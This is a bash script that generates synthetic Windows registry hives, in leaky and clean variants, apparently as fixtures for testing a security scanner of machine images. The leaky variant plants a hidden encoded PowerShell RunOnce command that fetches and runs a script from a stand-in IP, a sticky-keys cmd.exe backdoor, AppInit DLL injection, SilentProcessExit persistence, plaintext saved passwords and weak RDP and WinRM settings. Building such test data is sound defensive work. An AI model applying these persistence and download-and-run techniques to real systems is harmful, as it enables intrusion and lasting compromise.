#!/usr/bin/env bash
# Build the registry hives of a Windows image in DIR with hivexsh (libhivex-bin): SAM,
# SECURITY, SOFTWARE, SYSTEM and two users' NTUSER.DAT. hivex cannot create a hive, so each
# starts as the empty hive empty-hive.py writes; every key and value is then written by hivexsh.
# Fresh fake secrets each run, appended to DIR/secrets.env; the values hivexget reads back (the
# oracle) go to DIR/hives.env.
#
# Usage: hives.sh DIR leaky|clean
set -euo pipefail
dir=$(realpath "$1"); mode=${2:-leaky}
here=$(dirname "$(realpath "$0")")
cd "$dir"
rnd() { (LC_ALL=C tr -dc "$1" </dev/urandom || true) | head -c "$2"; }
hexbytes() { od -An -v -tx1 | tr -s ' \n' ','; }
new() { python3 "$here/empty-hive.py" "$1"; }
# hivexsh reads commands on stdin; `commit` writes the hive in place.
edit() { local f=$1; shift; { printf '%s\n' "$@"; echo commit; } | hivexsh -w "$f"; }

# SAM: the F value (account control flags at 0x38) and the V value (a 0xCC-byte header of
# offset/length pairs, then the name and the LM and NT hash entries), as Windows stores them.
# Hash entries: SAM_HASH_AES (revision 2; 0x18 bytes when empty, 0x38 with a hash) and
# SAM_HASH (revision 1; 4 bytes when empty, 0x14 with a hash). The hash bytes are random.
f_value() { python3 -c "
import struct,sys
f=bytearray(0x50); struct.pack_into('<I',f,0x30,$1); struct.pack_into('<H',f,0x38,$2)
sys.stdout.buffer.write(bytes(f))" | hexbytes; }
v_value() { python3 -c "
import os,struct,sys
name='$1'.encode('utf-16-le'); kind='$2'
def aes(set_):
    h=bytearray(0x38 if set_ else 0x18); h[2]=2; struct.pack_into('<I',h,4,0x10)
    if set_: h[8:]=os.urandom(0x30)
    return bytes(h)
def rc4(set_): return b'\x00\x00\x01\x00'+(os.urandom(16) if set_ else b'')
nt={'admin-aes':aes(True),'user-rc4':rc4(True),'empty':aes(False),'none':aes(False)}[kind]
lm=rc4(True) if kind=='user-rc4' else b'\x00\x00\x02\x00'
v=bytearray(0xCC); data=b''
for at,b in ((0x0C,name),(0x9C,lm),(0xA8,nt)):
    struct.pack_into('<II',v,at,len(data),len(b)); data+=b+b'\0'*(-len(b)%4)
sys.stdout.buffer.write(bytes(v)+data)" | hexbytes; }
user() { # RID NAME ACB KIND
  local key; key=$(printf '%08X' "$1")
  printf '%s\n' "add $key" "cd $key" "setval 2" F "hex:3:$(f_value "$1" "$3")" V "hex:3:$(v_value "$2" "$4")" "cd .."
}

new SAM
if [ "$mode" = clean ]; then
  # Administrator and Guest disabled without a password: what a generalized image holds.
  users=$( user 500 Administrator 0x11 none; user 501 Guest 0x11 none )
else
  users=$( user 500 Administrator 0x10 admin-aes; user 501 Guest 0x11 none; user 1001 builder 0x10 user-rc4; user 1002 kiosk 0x14 empty )
fi
# The account domain's V value ends with the machine SID (S-1-5-21-a-b-c, random here, as
# Setup makes it), in every image.
account_v=$(python3 -c "
import os,struct,sys
sid=struct.pack('<BB6s',1,4,(5).to_bytes(6,'big'))+struct.pack('<4I',21,*struct.unpack('<3I',os.urandom(12)))
sys.stdout.buffer.write(bytes(0x40)+sid)" | hexbytes)
edit SAM 'add SAM' 'cd SAM' 'add Domains' 'cd Domains' 'add Account' 'cd Account' 'setval 1' V "hex:3:$account_v" 'add Users' 'cd Users' \
  'add Names' $'cd Names\nadd Administrator\ncd ..' "$users"

autologon="Auto-$(rnd 'A-Za-z0-9' 14)"; putty="Px-$(rnd 'A-Za-z0-9' 12)"; winscp="A35C$(rnd '0-9A-F' 40)"
new SOFTWARE
if [ "$mode" = clean ]; then winlogon=('setval 2' AutoAdminLogon string:0 Shell string:explorer.exe)
else winlogon=('setval 4' AutoAdminLogon string:1 DefaultUserName string:Administrator DefaultDomainName string:EC2AMAZ-BUILD DefaultPassword "string:$autologon"); fi
edit SOFTWARE 'add Microsoft' 'cd Microsoft' 'add Windows NT' 'cd Windows NT' 'add CurrentVersion' 'cd CurrentVersion' \
  'add Winlogon' 'cd Winlogon' "${winlogon[@]}" 'cd ..' 'setval 1' ProductName 'string:Windows Server 2022 Datacenter'

# Autoruns: the Run key of a stock image (SecurityHealth); in the leaky image, a machine-wide
# Run value whose program is in ProgramData (users may write there) and a RunOnce value that
# runs encoded PowerShell fetching a script.
run=('setval 1' SecurityHealth 'expandstring:%windir%\system32\SecurityHealthSystray.exe')
if [ "$mode" != clean ]; then
  run=('setval 2' SecurityHealth 'expandstring:%windir%\system32\SecurityHealthSystray.exe' \
    Updater 'string:C:\ProgramData\Updater\updater.exe /silent')
  enc=$(printf 'IEX (iwr http://203.0.113.9/s.ps1 -UseBasicParsing)' | iconv -t UTF-16LE | base64 -w0)
  runonce=('add RunOnce' 'cd RunOnce' 'setval 1' Sync "string:powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand $enc" 'cd ..')
else
  runonce=()
fi
edit SOFTWARE 'cd Microsoft' 'add Windows' 'cd Windows' 'add CurrentVersion' 'cd CurrentVersion' \
  'add Run' 'cd Run' "${run[@]}" 'cd ..' "${runonce[@]}"

# Execution hijacks. Every image: what a stock image holds — an Image File Execution Options
# key with mitigation settings and no debugger, AppInit_DLLs empty and not loaded. The leaky
# image adds the sticky-keys backdoor (sethc.exe's debugger is cmd.exe) and a DLL injected into
# every process (AppInit_DLLs with LoadAppInit_DLLs 1).
appinit=string:; loadappinit=dword:0
[ "$mode" != clean ] && { appinit='string:C:\ProgramData\Hook\inject.dll'; loadappinit=dword:1; }
ifeo=('add Image File Execution Options' 'cd Image File Execution Options' 'add winword.exe' 'cd winword.exe' \
  'setval 1' MitigationOptions hex:3:00,00,00,00,00,00,00,10 'cd ..')
# The leaky image also has a program run whenever notepad.exe exits (SilentProcessExit
# MonitorProcess, turned on by notepad's IFEO GlobalFlag 0x200).
spe=()
if [ "$mode" != clean ]; then
  ifeo+=('add sethc.exe' 'cd sethc.exe' 'setval 1' Debugger 'string:C:\Windows\System32\cmd.exe' 'cd ..' \
    'add notepad.exe' 'cd notepad.exe' 'setval 1' GlobalFlag dword:0x200 'cd ..')
  spe=('add SilentProcessExit' 'cd SilentProcessExit' 'add notepad.exe' 'cd notepad.exe' 'setval 2' \
    ReportingMode dword:1 MonitorProcess 'string:C:\ProgramData\Monitor\mon.exe' 'cd ..' 'cd ..')
fi
edit SOFTWARE 'cd Microsoft' 'cd Windows NT' 'cd CurrentVersion' "${ifeo[@]}" 'cd ..' "${spe[@]}" \
  'add Windows' 'cd Windows' 'setval 2' AppInit_DLLs "$appinit" LoadAppInit_DLLs "$loadappinit"

new SECURITY
secrets=('add Policy' 'cd Policy' 'add Secrets' 'cd Secrets' 'add DPAPI_SYSTEM' 'cd DPAPI_SYSTEM' 'add CurrVal' 'cd CurrVal' 'setval 1' @ "hex:0:$(head -c 60 /dev/urandom | hexbytes)" 'cd ..' 'cd ..')
if [ "$mode" != clean ]; then
  secrets+=('add _SC_MSSQLSERVER' 'cd _SC_MSSQLSERVER' 'add CurrVal' 'cd CurrVal' 'setval 1' @ "hex:0:$(head -c 92 /dev/urandom | hexbytes)")
fi
edit SECURITY "${secrets[@]}"

new SYSTEM
edit SYSTEM 'add ControlSet001' 'cd ControlSet001' 'add Control' 'cd Control' 'add ComputerName' 'cd ComputerName' \
  'add ComputerName' 'cd ComputerName' 'setval 1' ComputerName string:EC2AMAZ-BUILD
# Services: stock ones (an svchost service with its ServiceDll, a driver, Defender, whose
# platform folder under ProgramData is protected); in the leaky image, a service whose program
# is in ProgramData.
svc() { printf '%s\n' "add $1" "cd $1" 'setval 2' ImagePath "expandstring:$2" Start "dword:$3" 'cd ..'; }
services=$( svc W32Time '%SystemRoot%\system32\svchost.exe -k LocalService' 3
  printf '%s\n' 'cd W32Time' 'add Parameters' 'cd Parameters' 'setval 1' ServiceDll 'expandstring:%systemroot%\system32\w32time.dll' 'cd ..' 'cd ..'
  svc disk '\SystemRoot\System32\drivers\disk.sys' 0
  svc WinDefend '"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe"' 2
  # A path with spaces, quoted as installers write it: no finding.
  svc AmazonSSMAgent '"C:\Program Files\Amazon\SSM\amazon-ssm-agent.exe"' 2
  # The leaky image: a program in ProgramData, and an unquoted path with spaces.
  if [ "$mode" != clean ]; then svc AppUpdater 'C:\ProgramData\AppUpdater\upd.exe' 2
    svc BuildAgent 'C:\Program Files\Build Agent\agent.exe --service' 2; fi )
edit SYSTEM 'add Select' 'cd Select' 'setval 1' Current dword:1 'cd ..' 'cd ControlSet001' 'add Services' 'cd Services' "$services"

# Remote access. Every image has Remote Desktop on (fDenyTSConnections 0, as AWS's Windows
# AMIs have it); the stock image requires Network Level Authentication and TLS, and its WinRM
# allows neither Basic authentication nor unencrypted traffic. The leaky image has NLA off and
# the RDP security layer, and WinRM with Basic over unencrypted HTTP (what `winrm set` recipes
# for configuration tools leave behind).
if [ "$mode" = clean ]; then nla=1 layer=2 basic=0 unenc=0; else nla=0 layer=0 basic=1 unenc=1; fi
edit SYSTEM 'cd ControlSet001' 'cd Control' 'add Terminal Server' 'cd Terminal Server' 'setval 1' fDenyTSConnections dword:0 \
  'add WinStations' 'cd WinStations' 'add RDP-Tcp' 'cd RDP-Tcp' 'setval 2' UserAuthentication "dword:$nla" SecurityLayer "dword:$layer"
edit SOFTWARE 'cd Microsoft' 'cd Windows' 'cd CurrentVersion' 'add WSMAN' 'cd WSMAN' 'add Service' 'cd Service' \
  'setval 2' auth_basic "dword:$basic" allow_unencrypted "dword:$unenc"

for u in Administrator alice; do
  new "NTUSER-$u.DAT"
  if [ "$mode" = clean ] || [ "$u" = alice ]; then
    edit "NTUSER-$u.DAT" 'add Software' 'cd Software' 'add SimonTatham' 'cd SimonTatham' 'add PuTTY' 'cd PuTTY' \
      'add Sessions' 'cd Sessions' 'add bastion' 'cd bastion' 'setval 3' HostName string:bastion.corp.example \
      ProxyHost string: ProxyPassword string:
  else
    edit "NTUSER-$u.DAT" 'add Software' 'cd Software' 'add SimonTatham' 'cd SimonTatham' 'add PuTTY' 'cd PuTTY' \
      'add Sessions' 'cd Sessions' 'add bastion' 'cd bastion' 'setval 3' HostName string:bastion.corp.example \
      ProxyHost string:proxy.corp.example ProxyPassword "string:$putty" 'cd \' 'cd Software' \
      'add Martin Prikryl' 'cd Martin Prikryl' 'add WinSCP 2' 'cd WinSCP 2' 'add Sessions' 'cd Sessions' \
      'add deploy@sftp.corp.example' 'cd deploy@sftp.corp.example' 'setval 3' HostName string:sftp.corp.example \
      UserName string:deploy Password "string:$winscp"
  fi
done

# A user's own Run key pointing into that user's profile (the leaky image).
if [ "$mode" != clean ]; then
  edit NTUSER-alice.DAT 'cd Software' 'add Microsoft' 'cd Microsoft' 'add Windows' 'cd Windows' 'add CurrentVersion' \
    'cd CurrentVersion' 'add Run' 'cd Run' 'setval 1' Helper 'string:C:\Users\alice\AppData\Local\Temp\helper.exe'
fi

if [ "$mode" != clean ]; then
  printf 'AUTOLOGON=%s\nPUTTY=%s\nWINSCP=%s\n' "$autologon" "$putty" "$winscp" >> secrets.env
fi
# The oracle: what hivex itself reads back.
{
  printf 'HIVEX_AUTOLOGON=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows NT\CurrentVersion\Winlogon' DefaultPassword 2>/dev/null || true)"
  printf 'HIVEX_COMPUTERNAME=%s\n' "$(hivexget SYSTEM '\ControlSet001\Control\ComputerName\ComputerName' ComputerName)"
  printf 'HIVEX_RUN_UPDATER=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows\CurrentVersion\Run' Updater 2>/dev/null || true)"
  printf 'HIVEX_APPUPDATER_IMAGE=%s\n' "$(hivexget SYSTEM '\ControlSet001\Services\AppUpdater' ImagePath 2>/dev/null || true)"
  printf 'HIVEX_IFEO_SETHC=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe' Debugger 2>/dev/null || true)"
  printf 'HIVEX_MONITOR=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows NT\CurrentVersion\SilentProcessExit\notepad.exe' MonitorProcess 2>/dev/null || true)"
  printf 'HIVEX_APPINIT=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows NT\CurrentVersion\Windows' AppInit_DLLs)"
  printf 'HIVEX_ACCOUNT_V=%s\n' "$(hivexget SAM '\SAM\Domains\Account' | sed -n 's/^"V"=hex(3)://p')"
  printf 'HIVEX_NLA=%s\n' "$(hivexget SYSTEM '\ControlSet001\Control\Terminal Server\WinStations\RDP-Tcp' UserAuthentication)"
  printf 'HIVEX_WINRM_BASIC=%s\n' "$(hivexget SOFTWARE '\Microsoft\Windows\CurrentVersion\WSMAN\Service' auth_basic)"
  printf 'HIVEX_BUILDAGENT_IMAGE=%s\n' "$(hivexget SYSTEM '\ControlSet001\Services\BuildAgent' ImagePath 2>/dev/null || true)"
} > hives.env
